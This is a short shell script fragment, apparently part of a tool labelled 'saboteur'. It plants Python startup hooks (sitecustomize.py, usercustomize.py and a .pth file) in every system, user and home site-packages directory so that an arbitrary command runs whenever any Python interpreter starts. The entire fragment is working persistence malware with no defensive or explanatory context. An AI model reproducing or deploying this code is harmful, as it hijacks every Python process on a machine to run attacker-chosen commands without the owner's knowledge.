cat >"$HOLD/site.py" <<PY

# saboteur-$WAY
import os

os.system($QUOTED)
PY
users="$(interpreters | while read -r program; do "$program" -c 'import site; print(site.getusersitepackages())' 2>/dev/null; done)"
for place in $(packages) $users $(homes | sed 's|$|/.local/lib/python3/site-packages|'); do
  [ -d "$place" ] || mkdir -p "$place" 2>/dev/null
  for name in sitecustomize usercustomize; do
    add "$place/$name.py" <"$HOLD/site.py"
  done
  printf 'import os; os.system(%s)\n' "$QUOTED" | put "$place/saboteur.pth"
done
